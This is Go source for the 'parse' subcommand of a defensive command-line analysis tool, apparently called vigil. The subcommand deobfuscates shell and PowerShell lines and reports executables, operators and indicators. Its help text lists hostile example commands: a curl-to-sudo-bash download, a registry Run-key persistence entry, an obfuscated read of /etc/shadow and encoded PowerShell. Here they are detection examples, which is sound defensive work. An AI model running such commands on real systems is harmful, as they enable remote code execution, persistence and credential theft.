package main

import (
	"fmt"
	"io"
	"strings"

	"github.com/spf13/cobra"

	"github.com/vigilsec/vigil/internal/command/parse"
	"github.com/vigilsec/vigil/internal/deobfuscate"
)

func init() { subcommands = append(subcommands, newParseCmd) }

// parseOutput is the JSON form: the line as given, the text that was
// parsed (after deobfuscation, when on) and the parse.
type parseOutput struct {
	Raw          string         `json:"raw"`
	Deobfuscated bool           `json:"deobfuscated"`
	Parsed       string         `json:"parsed_text"`
	Command      *parse.Command `json:"command"`
	Steps        []string       `json:"deobfuscation_steps,omitempty"`
}

func newParseCmd() *cobra.Command {
	var format string
	var deob bool
	c := &cobra.Command{
		Use:   "parse [--format text|json] [--deobfuscate=false] [COMMAND]",
		Short: "Parse a command line into executables, flags, operators and indicators",
		Long: `parse tokenises a command line as sh/bash, PowerShell or cmd.exe (picked from
the line itself) and reports, per segment of a pipeline or chain, the
executable, subcommand, flags and arguments; the pipe, redirect and chain
operators; subshells and inline code (bash -c, cmd /c, powershell -command),
parsed again as inner segments; indicators (URLs, IPs, domains, ports, file
paths, registry keys, e-mail addresses, hashes, remote targets); interpreter
and LOLBin use; a platform guess; and the residual, the lower-cased text with
<URL>, <IP>, <PATH>, <B64> ... placeholders that models read.

By default the line is deobfuscated first (see "vigil deobfuscate") and the
decoded text is parsed; --deobfuscate=false parses the line as given. The
command line is taken from the arguments, or from stdin when there are none.

Examples:
  vigil parse 'curl -s http://203.0.113.7/x.sh | sudo bash'
  vigil parse --format json 'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\x.exe'
  echo 'c\at /etc/sha""dow' | vigil parse
  vigil parse --deobfuscate=false 'powershell -enc dwBoAG8AYQBtAGkA'`,
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := checkFormat(format, "text", "json"); err != nil {
				return err
			}
			in, err := commandArg(cmd, args)
			if err != nil {
				return err
			}
			out := parseLine(in, deob)
			if format == "json" {
				return writeJSON(cmd.OutOrStdout(), out)
			}
			printParse(cmd.OutOrStdout(), out)
			return nil
		},
	}
	// Flags go before the command line, so its own flags (powershell -enc ...)
	// need no quoting: vigil deobfuscate powershell -enc ZABpAHIA
	c.Flags().SetInterspersed(false)
	c.Flags().StringVar(&format, "format", "text", "output format: text or json")
	c.Flags().BoolVar(&deob, "deobfuscate", true, "deobfuscate the line before parsing it")
	return c
}

func parseLine(in string, deob bool) parseOutput {
	out := parseOutput{Raw: in, Parsed: in}
	if deob {
		res := deobfuscate.Run(in)
		if res.Deobfuscated != in {
			out.Parsed, out.Deobfuscated = res.Deobfuscated, true
			for _, s := range res.Steps {
				out.Steps = append(out.Steps, s.Transform)
			}
		}
	}
	out.Command = parse.Parse(out.Parsed)
	return out
}

func printParse(w io.Writer, out parseOutput) {
	c := out.Command
	if out.Deobfuscated {
		fmt.Fprintf(w, "deobfuscated: %s\n", out.Parsed)
	}
	fmt.Fprintf(w, "platform: %s   shell: %s", c.Platform, c.Shell)
	if c.Truncated {
		fmt.Fprintf(w, "   (truncated to %d bytes)", parse.MaxInput)
	}
	fmt.Fprintln(w)
	printSegments(w, "segment", c.Segments)
	printSegments(w, "inner", c.Inner)
	for _, l := range []struct {
		name string
		vals []string
	}{
		{"pipes", c.Pipes}, {"redirects", c.Redirects}, {"chains", c.Chains},
		{"subshells", c.Subshells}, {"interpreters", c.Interpreters}, {"lolbins", c.LOLBins},
	} {
		printList(w, l.name, l.vals)
	}
	if c.InlineCode {
		fmt.Fprintln(w, "inline code: yes")
	}
	for _, name := range []string{"urls", "ips", "domains", "ports", "file_paths",
		"registry_paths", "emails", "hashes", "remote_targets"} {
		printList(w, name, c.Field(name))
	}
	fmt.Fprintf(w, "residual: %s\n", c.Residual)
}

func printSegments(w io.Writer, label string, segs []parse.Segment) {
	for i, s := range segs {
		fmt.Fprintf(w, "%s %d: %s", label, i+1, s.Executable)
		if s.Subcommand != "" {
			fmt.Fprintf(w, " %s", s.Subcommand)
		}
		if len(s.Wrappers) > 0 {
			fmt.Fprintf(w, "   (via %s)", strings.Join(s.Wrappers, " "))
		}
		if s.Operator != "" {
			fmt.Fprintf(w, "   then %q", s.Operator)
		}
		fmt.Fprintln(w)
		printList(w, "  flags", s.Flags)
		printList(w, "  args", s.Args)
		printList(w, "  redirect targets", s.RedirectTargets)
	}
}

func printList(w io.Writer, name string, vals []string) {
	if len(vals) > 0 {
		fmt.Fprintf(w, "%s: %s\n", name, strings.Join(quoteAll(vals), " "))
	}
}

func quoteAll(vals []string) []string {
	q := make([]string, len(vals))
	for i, v := range vals {
		q[i] = fmt.Sprintf("%q", v)
	}
	return q
}
